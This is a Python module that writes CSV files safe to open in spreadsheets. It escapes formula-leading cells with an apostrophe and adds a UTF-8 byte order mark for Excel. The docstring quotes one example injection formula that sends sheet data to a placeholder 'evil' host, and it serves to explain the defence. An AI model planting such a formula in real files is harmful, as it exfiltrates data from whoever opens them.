"""CSV that is safe to open in a spreadsheet: the one writer of every CSV the app serves.

Excel, LibreOffice and Google Sheets run a cell whose text starts with ``=``, ``+``, ``-`` or
``@`` as a formula (``=HYPERLINK("https://evil/?"&A1, "click")`` sends the sheet's data away),
and some skip a leading tab or carriage return before looking. Query ids, query texts,
categories, strata and chunk texts come from uploaded files and logs, so any of them can be
such a cell. :func:`writer` writes every text cell that starts with one of those characters
with a leading ``'`` (the usual neutralisation: the spreadsheet shows the text, the ``'``
hidden); numbers are written as numbers, so a negative score stays a number.

Every such file starts with a UTF-8 byte order mark (``BOM``, the bytes ``EF BB BF``). Excel
opens a CSV without one in the system's legacy code page, so on Chinese Windows (GBK) every
Chinese cell of a UTF-8 file reads as mojibake; with the mark it reads UTF-8 on every system.
LibreOffice, Google Sheets and pandas' ``read_csv`` skip the mark; Python's ``csv`` module
reads it as part of the first header unless the file is opened with ``encoding="utf-8-sig"``
(docs/goldsets.md "Exports"). Machine formats (JSONL, TREC, BEIR) carry no mark.

The golden-set CSV export and the run report's CSV both write through it, so the rule lives
here only. Pure module (the standard library only).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# U+FEFF: encoded in UTF-8 it is the three bytes EF BB BF that tell Excel the file is UTF-8.
BOM = "\ufeff"


def cell(value: object) -> object:
    """``value`` as a CSV cell: None is empty, a text a spreadsheet would run gets a ``'``."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every row goes through :func:`cell`."""

    def __init__(self, out: IO[str], **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: IO[str], **kwargs: Any) -> SafeWriter:
    """A CSV writer for a file people will open (keyword arguments as ``csv.writer``'s). It
    writes the byte order mark first, so ``out`` must be the start of the file."""
    out.write(BOM)
    return SafeWriter(out, **kwargs)
